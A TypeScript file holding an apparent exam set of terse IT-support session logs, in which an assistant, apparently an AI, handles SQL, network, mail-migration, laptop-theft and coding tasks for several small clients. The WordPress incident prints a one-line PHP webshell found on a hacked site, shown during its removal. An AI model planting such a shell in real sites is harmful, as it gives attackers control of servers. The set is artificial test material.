/** Exam2 set, 4 to 8 May 2026. The marks at the starts of lines are explained in README.md. */
export const exam2Days1 = String.raw`
@ 2026-05-04 06:50 | sofie | Van Houtte Logistics | msp
> /msp Van Houtte Logistics #INC-311
= incident | VH-SQL1, VH-WMS | Warehouse system stood still: transaction log of its database full because log backups had stopped; log backed up, service started
> magazijn ligt stil!! wms geeft "fout 9002". VH-HV01 al bekeken, vm's draaien
% Invoke-Sqlcmd -ServerInstance VH-SQL1.vanhoutte.local -Query "select name, log_reuse_wait_desc, recovery_model_desc from sys.databases"
| WMSPROD  LOG_BACKUP  FULL
% Invoke-Sqlcmd -ServerInstance VH-SQL1.vanhoutte.local -Query "select top 1 backup_finish_date from msdb..backupset where type='L' order by 1 desc"
| 29/04/2026 22:00:04
%120 Invoke-Sqlcmd -ServerInstance VH-SQL1.vanhoutte.local -Query "BACKUP LOG WMSPROD TO DISK='L:\wms_0405.trn' WITH COMPRESSION" -QueryTimeout 0
% Get-Service -ComputerName VH-WMS WmsEngine | Restart-Service -PassThru
| Running WmsEngine
. Log is vrij, de WMS-engine draait.
> en waarom stopten de logbackups?
% Invoke-Sqlcmd -ServerInstance VH-SQL1 -Query "exec msdb..sp_update_job @job_name='LogBackup', @enabled=1"
. De job stond uit sinds 29/4, weer ingeschakeld.
= service_request | - | Shared calendar for the drivers' holidays created with the planners as editors
> oké. volgende: planning vraagt een gedeelde agenda "verlof chauffeurs", tine en koen mogen bewerken
% New-Mailbox -Shared -Name 'Verlof chauffeurs' -PrimarySmtpAddress verlof@vanhoutte.be
| Verlof chauffeurs
% Add-MailboxFolderPermission verlof@vanhoutte.be:\Agenda -User tine@vanhoutte.be -AccessRights Editor; Add-MailboxFolderPermission verlof@vanhoutte.be:\Agenda -User koen@vanhoutte.be -AccessRights Editor
! 1
| The specified folder "verlof@vanhoutte.be:\Agenda" couldn't be found.
% 'tine','koen' | % { Add-MailboxFolderPermission verlof@vanhoutte.be:\Calendar -User $_ -AccessRights Editor }
. De agenda staat klaar voor Tine en Koen.

@ 2026-05-04 07:20 | gareth | Ashdown Architects | msp
> /msp Ashdown Architects #4402
= incident | ash-lic | CAD licences could not be checked out because the licence daemon's port had changed after a reboot
> nobody can open archicad, "no license". vendor says its us
$ ssh gw@ash-lic.ashdown.lan "systemctl status rlm --no-pager | tail -3; ss -ltnp | grep -E '5053|rlm'"
| Active: active (running) since Mon 05:12
| LISTEN 0 128 0.0.0.0:38211 rlm-vendor
$ ssh gw@ash-lic.ashdown.lan "cat /opt/rlm/arch.lic | head -2; sudo ufw status | grep 5"
| ISV graphisoft
| 5053:5054/tcp ALLOW
$ ssh gw@ash-lic.ashdown.lan "sudo sed -i 's/^ISV graphisoft.*/ISV graphisoft port=5054/' /opt/rlm/arch.lic && sudo systemctl restart rlm && /opt/rlm/rlmutil rlmstat -a | tail -2"
| graphisoft v14: 12 of 20 in use
. Pinned the vendor port, licences check out.
> cheers theyre in

@ 2026-05-04 08:10 | noor | - | dev | cwd=C:\Users\noor\src\ticket-bot
> /dev
= development | - | Ticket bot ignores out-of-office replies, with tests
> bot maakt tickets van afwezigheidsmails, filter op Auto-Submitted header
e C:\Users\noor\src\ticket-bot\src\intake.ts
- export const accept = (mail: Mail) => mail.to.includes(desk)
+ export const accept = (mail: Mail) => mail.to.includes(desk) && !auto(mail)
+ const auto = (mail: Mail) => /auto-replied/i.test(mail.headers['auto-submitted'] ?? '')
%9 pnpm vitest run intake
! 1
| TypeError: Cannot read properties of undefined (reading 'auto-submitted')
e C:\Users\noor\src\ticket-bot\src\intake.ts
- mail.headers['auto
+ mail.headers?.['auto
%9 pnpm vitest run intake
| Tests  11 passed (11)
. Klaar, 11 tests groen.

@ 2026-05-04 09:00 | noor | Praxis Yilmaz | msp
> /msp Praxis Yilmaz
= maintenance | PY-SRV | Quarterly update of the practice software and Windows updates over lunch, backup first
> Quartalsupdate Medistar + Windows auf PY-SRV, Praxis ist bis 14 Uhr zu
%200 Invoke-Command -ComputerName PY-SRV { wbadmin start backup -backupTarget:E: -include:D: -quiet | select -Last 1 }
| The backup operation successfully completed.
%260 Invoke-Command -ComputerName PY-SRV { Start-Process D:\Install\Q2_2026\setup.exe '/S' -Wait; Get-Content D:\Medistar\update.log -Tail 1 }
| Update 404.82 erfolgreich
%350 Invoke-Command -ComputerName PY-SRV { Install-WindowsUpdate -AcceptAll -AutoReboot | ft KB, Result }
| KB5058392 Installed
~ 6m
> wieder da?
% Invoke-Command -ComputerName PY-SRV { Get-Service Medistar*, MSSQL* | ft Name, Status }
| MedistarSrv Running
. Läuft alles.

@ 2026-05-04 12:10 | gareth | Riverbend Brewing | msp
> /msp Riverbend Brewing #RB-88
= security | rb-web | WordPress site hacked: webshell and rogue admin removed, keys changed, plugin updated
> google says rb-web is "deceptive site". ffs
$ ssh gw@rb-web "cd /var/www/rb && wp core verify-checksums; find wp-content/uploads -name '*.php' -mtime -14"
| Warning: File should not exist: wp-includes/css/c.php
| wp-content/uploads/2026/04/x.php
$ ssh gw@rb-web "cd /var/www/rb && wp user list --role=administrator --field=user_login; head -c 80 wp-content/uploads/2026/04/x.php"
| brewadmin
| wpsupp0rt
| <?php @eval(base64_decode($_POST['z']));
$ ssh gw@rb-web "cd /var/www/rb && rm wp-includes/css/c.php wp-content/uploads/2026/04/x.php && wp user delete wpsupp0rt --reassign=1 --yes && wp config shuffle-salts && wp plugin update --all"
| Success: Updated 6 of 6 plugins.
$ ssh gw@rb-web "grep -h 'x.php' /var/log/nginx/access.log* | awk '{print \$1}' | sort | uniq -c; crontab -lu www-data"
| 88 45.9.148.114
| no crontab for www-data
. Shell and rogue admin gone, salts and plugins renewed. Entry was the forms plugin.
> request google review pls, ill tell the owner

@ 2026-05-05 06:45 | sofie | De Wilg Makelaars | msp
> /msp De Wilg Makelaars #5521
= change | DW-RDS | Session time limits for disconnected users set on the session host as agreed
> de wilg: verbroken sessies na 2u afmelden, idle 1u. akkoord van Martine zit in ticket
% Invoke-Command -ComputerName dw-rds.dewilg.local { Get-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services' | select Max* }
| MaxDisconnectionTime : 0
% Invoke-Command -ComputerName dw-rds.dewilg.local { $k='HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services'; sp $k MaxDisconnectionTime 7200000; sp $k MaxIdleTime 3600000; gpupdate /target:computer }
. Ingesteld: verbroken 2 uur, inactief 1 uur.
= service_request | DW-DC01 | Password reset and unlock for an estate agent who forgot it on leave
> pieter vd berg is terug uit verlof, ww vergeten. reset + unlock aub
% Unlock-ADAccount pvdberg -Server DW-DC01; Set-ADAccountPassword pvdberg -Server DW-DC01 -Reset -NewPassword (Read-Host -AsSecureString); Set-ADUser pvdberg -Server DW-DC01 -ChangePasswordAtLogon $true
. Gereset; hij kiest bij aanmelden een nieuw.
> doorgegeven per telefoon
= incident | DW-PRT | Labels of the front desk printed blank after a driver update; earlier driver put back
> en de balie weer: labels komen leeg uit de zebra sinds vanmorgen
% Get-PrinterDriver -ComputerName DW-PRT -Name ZDesigner* | ft Name, MajorVersion, DriverVersion
| ZDesigner ZD421  3  10.6.14
% Get-WinEvent -ComputerName DW-PRT -LogName Microsoft-Windows-PrintService/Admin -MaxEvents 2 | fl Message
| The document Label failed to render. Win32 error: 87
% Set-Printer -ComputerName DW-PRT -Name ZEBRA-BALIE -DriverName 'ZDesigner ZD421 (8.6)'
. Oude driver teruggezet, proefpagina is gestuurd.
> goed zo

@ 2026-05-05 07:10 | gareth | Pemberton Vets | msp
> /msp Pemberton Vets
= documentation | PV-RTR | Router settings of the surgery (WAN, VLANs, VPN) written up for the handover folder
> need a write up of the draytek at pemberton before the isp switch. read only!
$ ssh admin@PV-RTR "show status; vlan show; vpn dinset show" > pv-rtr.txt
| WAN1 PPPoE 81.2.69.142
$ grep -c VLAN pv-rtr.txt
| 3
w /Users/gareth/clients/pemberton-vets/docs/router.md
+ # Router
+ WAN1 PPPoE, fixed address
+ VLAN 10 surgery, 20 phones, 30 guests
+ VPN: two dial-in profiles
. Written up: WAN, three VLANs, two VPN profiles.
> add the isp circuit id BBEU4411
e /Users/gareth/clients/pemberton-vets/docs/router.md
- WAN1 PPPoE, fixed address
+ WAN1 PPPoE, fixed address, circuit BBEU4411
. Added.

@ 2026-05-05 08:30 | noor | Stichting Het Baken | msp | id=hbm
> /msp Stichting Het Baken #600
= project | - | Mail migration from the old IMAP host to Exchange Online, batch 1: endpoint made and eight mailboxes synchronised
> start migratie baken: endpoint + batch 1 (csv staat klaar, 8 postvakken)
% New-MigrationEndpoint -IMAP -Name oudehost -RemoteServer imap.antagonist.nl -Port 993 -Security Ssl
! 1
| The connection to the server 'imap.antagonist.nl' could not be completed.
% New-MigrationEndpoint -IMAP -Name oudehost -RemoteServer imap.mijnhostingpartner.nl -Port 993 -Security Ssl
| oudehost
% New-MigrationBatch -Name batch1 -SourceEndpoint oudehost -CSVData ([IO.File]::ReadAllBytes('batch1.csv')) -AutoStart
| batch1 Syncing
. Batch 1 loopt.

@ 2026-05-06 06:40 | noor | Stichting Het Baken | msp | id=hbm src=resume
= same
> status?
% Get-MigrationUser -BatchId batch1 | group Status | ft Name, Count
| Synced 7
| Failed 1
% Get-MigrationUserStatistics info@hetbaken.nl | fl Error; Set-MigrationBatch batch1 -BadItemLimit 20; Start-MigrationBatch batch1
. Zeven klaar, info@ is opnieuw gestart met ruimere limiet.
~ 9m
> nu?
% Get-MigrationUser -BatchId batch1 | group Status | ft Name, Count
| Synced 8
. Alle acht gesynchroniseerd.
= documentation | - | Guide for the volunteers on how to set up mail in Outlook on their phone after the migration
> schrijf nu korte handleiding voor vrijwilligers: outlook app op telefoon instellen. taal B1
w C:\Users\noor\clients\het-baken\handleiding-outlook-telefoon.md
+ # Mail op je telefoon
+ 1. Download de app Outlook.
+ 2. Vul je mailadres in.
% pandoc handleiding-outlook-telefoon.md -o handleiding.pdf
. De handleiding is één pagina.

@ 2026-05-05 12:20 | gareth | - | normal
> /normal
= internal | - | Van hire and travel expenses of April put together for own accounts
> expenses for april, receipts in ~/Pictures/receipts, accounts want a csv by tonight
$ ls ~/Pictures/receipts
| 0402-shell.jpg 0411-premierinn.jpg 0419-trainline.pdf
w /Users/gareth/admin/expenses-2026-04.csv
+ date,what,gbp
+ 2026-04-02,fuel,61.20
+ 2026-04-11,hotel,84.00
. Three receipts, 188.70 in total.
> sent to karen in accounts

@ 2026-05-06 07:00 | sofie | Van Houtte Logistics | msp
> /msp Van Houtte Logistics #CHG-77
= change | VH-CORE | New VLAN 60 for the cameras made on the core switch with its trunk ports, as in the approved change
> CHG-77: vlan 60 cameras op de core, trunk naar po1 en po2, svi 10.20.60.1/24
$ ssh netadm@vh-core.vanhoutte.local "show vlan brief | include 60; show int trunk | begin allowed"
| Po1 10,20,30
| Po2 10,20,30
$ ssh netadm@vh-core.vanhoutte.local "conf t ; vlan 60 ; name CAM ; int vlan60 ; ip address 10.20.60.1 255.255.255.0 ; int range po1-2 ; switchport trunk allowed vlan add 60 ; end ; wr"
| [OK]
. VLAN 60 staat op de core en op beide trunks.
= maintenance | VH-HV01 | Weekly look at the Hyper-V host: checkpoints removed, disk space, hardware and replication healthy
> dan nog de wekelijkse ronde op de hypervisor
% Get-VMSnapshot -ComputerName VH-HV01 -VMName * | ? CreationTime -lt (Get-Date).AddDays(-7) | Remove-VMSnapshot -Verbose
| VERBOSE: Remove-VMSnapshot will remove snapshot "voor update".
% Invoke-Command -ComputerName VH-HV01 { Get-Volume | ft DriveLetter, SizeRemaining; Get-PhysicalDisk | ft HealthStatus; Measure-VMReplication | ft Name, Health }
| Healthy
| Normal
. Eén oud checkpoint weg, verder alles gezond.

@ 2026-05-06 07:20 | gareth | Riverbend Brewing | msp
> /msp Riverbend Brewing #RB-91
= problem | rb-db, RB-POS1 | Why the tills freeze every Friday evening: keepalive of idle database connections is cut by the firewall after an hour
> pos freezes every fri night, third month running, we always "fix" by rebooting the till. im not rebooting anything, why does it happen
$ ssh gw@rb-db "sudo grep -h 'connection reset' /var/log/postgresql/*.log | cut -c1-13 | sort | uniq -c | tail -4"
|   41 2026-05-01 19
|   39 2026-04-24 19
$ ssh gw@rb-pos1.riverbend.local "powershell Get-WinEvent -FilterHashtable @{LogName='Application';ProviderName='BrewPOS'} -Max 3"
| 01/05/2026 19:02 Npgsql: Exception while reading from stream
$ ssh gw@rb-db "sudo -u postgres psql -Atc \"show tcp_keepalives_idle; select client_addr, now()-state_change from pg_stat_activity where state='idle'\""
| 7200
| 10.5.3.21|01:12:09
. Idle connections live over an hour before the Friday rush; the firewall drops states at 3600 s, keepalive only starts at 7200 s. First sale after the quiet hour hits a dead socket.
> that explains all of em. write it as known error

@ 2026-05-06 09:30 | noor | Praxis Yilmaz | msp
> /msp Praxis Yilmaz #812
= incident | PY-EMPFANG | Card reader at the reception not recognised because its service was stuck; service and terminal pairing renewed
> empfang kann keine karten einlesen, wartezimmer voll
% Enter-PSSession PY-EMPFANG
! 1
| Connecting to remote server PY-EMPFANG failed: WinRM cannot process the request
$ psexec \\PY-EMPFANG powershell "Get-Service SCardSvr, CTAPI*; Get-PnpDevice -Class SmartCardReader"
| Stopped SCardSvr
| Error Orga 6141
$ psexec \\PY-EMPFANG powershell "Start-Service SCardSvr; pnputil /restart-device 'USB\VID_0780'; Get-PnpDevice -Class SmartCardReader"
| OK Orga 6141
. Der Leser ist wieder da.
> geht

@ 2026-05-07 06:55 | sofie | - | normal
> /normal
= internal | - | Job advert for a new service desk colleague written
> we zoeken een collega servicedesk, vacaturetekst voor onze site, 200 woorden, niet te hip
w C:\Users\sofie\intern\vacature-servicedesk.md
+ # Collega servicedesk (32-40 u)
+ Je helpt onze klanten met plezier.
. 190 woorden.
> loonvork erbij 2800-3300
e C:\Users\sofie\intern\vacature-servicedesk.md
- # Collega servicedesk (32-40 u)
+ # Collega servicedesk (32-40 u), 2800-3300 euro
. Erbij gezet.

@ 2026-05-07 07:05 | gareth | Ashdown Architects | msp | crash
> /msp Ashdown Architects #4410
= project | ASH-FS1 | File server to SharePoint migration, wave 2: scan of the project folders, long paths fixed, upload started
> sharepoint move wave 2 = P:\2023 + P:\2024. prescan then go
$ ssh gw@ash-fs1.ashdown.lan "powershell Get-ChildItem P:\2023,P:\2024 -Recurse | where { \$_.FullName.Length -gt 380 } | measure | select Count"
| 17
$ ssh gw@ash-fs1.ashdown.lan "powershell C:\mig\Shorten-Paths.ps1 -Root P:\2023,P:\2024 -Max 380"
| 17 renamed
$240 ssh gw@ash-fs1.ashdown.lan "powershell Start-SPMTMigration -TaskFile C:\mig\wave2.json"
| Scan finished 41233 items
$ ssh gw@ash-fs1.ashdown.lan "powershell Get-SPMTMigration -Wait"

@ 2026-05-07 07:40 | gareth | Ashdown Architects | msp
> /msp Ashdown Architects #4410
= project | ASH-FS1 | File server to SharePoint migration, wave 2 continued after a crash: upload checked and the old folders set read-only
> terminal died. where is wave 2 at
$ ssh gw@ash-fs1.ashdown.lan "powershell Get-SPMTMigration | select Status,MigratedItems,FailedItems"
| Completed 41230 3
$ ssh gw@ash-fs1.ashdown.lan "type C:\mig\out\Failure.csv"
| thumbs.db x3
$ ssh gw@ash-fs1.ashdown.lan "icacls P:\2023 P:\2024 /inheritance:r /grant ASHDOWN\Staff:(OI)(CI)RX"
| Successfully processed 2 files
. Wave 2 is up, 3 thumbs.db failed, the old folders are read-only.

@ 2026-05-07 08:15 | noor | De Wilg Makelaars | msp
> /msp De Wilg Makelaars #5530
= security | DW-LT11 | Stolen laptop: wiped remotely, device disabled, sessions ended, BitLocker state confirmed
> DW-LT11 gestolen uit auto van anouk vannacht
% Get-MgDeviceManagementManagedDevice -Filter "deviceName eq 'DW-LT11'" | ft IsEncrypted, LastSyncDateTime
| True 06/05/2026 17:40
% Clear-MgDeviceManagementManagedDevice -ManagedDeviceId (Get-MgDeviceManagementManagedDevice -Filter "deviceName eq 'DW-LT11'").Id -KeepUserData:$false
% Revoke-MgUserSignInSession -UserId anouk@dewilg.nl; Update-MgDevice -DeviceId 4f1 -AccountEnabled:$false
| True
. Wisopdracht staat klaar, toestel en sessies geblokkeerd, schijf was versleuteld.
> aangiftenummer volgt. datalek melden? encryptie was aan dus nee denk ik
. Met versleutelde schijf en ingetrokken sessies is het risico laag; leg de afweging vast in het register.

@ 2026-05-08 06:40 | sofie | Boulangerie Garnier | msp
> /msp Boulangerie Garnier #G-19
= incident | GAR-CAISSE2 | Till did not start the sales program because its licence dongle driver was blocked; driver reinstalled
> caisse 2 démarre pas le logiciel, ils ouvrent dans 20min!!
% Test-WSMan GAR-CAISSE2
% Invoke-Command -ComputerName GAR-CAISSE2 { Get-WinEvent -LogName Application -MaxEvents 5 | ? LevelDisplayName -eq 'Error' | fl Message; Get-PnpDevice | ? Status -eq Error }
| Sentinel key not found (H0007)
| Error Sentinel HL Key
% Invoke-Command -ComputerName GAR-CAISSE2 { Start-Process C:\Install\haspdinst.exe '-i -fi -kp' -Wait; Restart-Service hasplms; (Get-PnpDevice -FriendlyName 'Sentinel*').Status }
| OK
. La clé est reconnue, la caisse démarre.
= maintenance | GAR-CAISSE1, GAR-CAISSE2 | Disk clean-up and Windows updates on both tills after closing
> ce soir après fermeture (13h ils ferment) : nettoyage + maj sur les 2 caisses
~ 5h
> go
%280 Invoke-Command -ComputerName GAR-CAISSE1,GAR-CAISSE2 { Dism /Online /Cleanup-Image /StartComponentCleanup | select -Last 1; Install-WindowsUpdate -AcceptAll -IgnoreReboot | ft KB, Result }
| KB5058379 Installed
| KB5058379 Installed
% Restart-Computer -ComputerName GAR-CAISSE1,GAR-CAISSE2 -Force -Wait -Timeout 300
. Les deux caisses sont à jour et redémarrées.

@ 2026-05-08 07:15 | gareth | Pemberton Vets | msp
> /msp Pemberton Vets #PV-240
= service_request | PV-SRV01 | New vet nurse gets an account copied from a colleague
> starter monday: Isla Grant, vet nurse, same as Megan Price
$ ssh adm@pv-srv01.pemberton.local "powershell \$m = Get-ADUser mprice -Properties MemberOf; New-ADUser -Name 'Isla Grant' -SamAccountName igrant -Instance \$m -Enabled 1 -AccountPassword (Import-Clixml C:\it\pw.xml)"
$ ssh adm@pv-srv01.pemberton.local "powershell (Get-ADUser mprice -Properties MemberOf).MemberOf | Add-ADGroupMember -Members igrant"
. igrant is made with the same groups as Megan.
> ta. card printed
= problem | PV-NAS | Cause of the X-ray backups that fail every six weeks: the quota counts the recycle bin
> next: xray backups fail about every 6 weeks, we just empty something and it works. whats the underlying cause? just look dont change
$ ssh admin@pv-nas "tail -3 /share/homes/xray/backup.log; df -h /share/Backup | tail -1"
| rsync: write failed: Disk quota exceeded (122)
| /dev/md1 14T 6.1T 7.9T 44% /share/Backup
$ ssh admin@pv-nas "quota -s xray; du -sh /share/Backup/@Recycle /share/Backup/xray"
| 3.0T*  3.0T
| 1.4T /share/Backup/@Recycle
| 1.6T /share/Backup/xray
. The quota of 3 TB counts the recycle bin; retention moves deleted sets there and nothing empties it. It fills about every six weeks.
> yep that is it

@ 2026-05-08 11:20 | noor | - | dev | cwd=C:\Users\noor\src\onboarding-portal
> /dev
= development | - | Onboarding portal checks Dutch and Belgian phone numbers, with tests
> validatie telefoonnr NL + BE in het formulier
w C:\Users\noor\src\onboarding-portal\src\phone.ts
+ export const phone = (text: string) => /^\+3[12]\d{8,9}$/.test(text.replace(/[\s.-]/g, ''))
w C:\Users\noor\src\onboarding-portal\src\phone.test.ts
+ test('be', () => expect(phone('+32 470 12 34 56')).toBe(true))
%7 npx jest phone
| Tests: 1 passed, 1 total
e C:\Users\noor\src\onboarding-portal\src\Form.tsx
- <input name="phone" />
+ <input name="phone" onBlur={check(phone)} />
%21 npm run build
| built in 18.2s
. Het formulier controleert nummers.
`
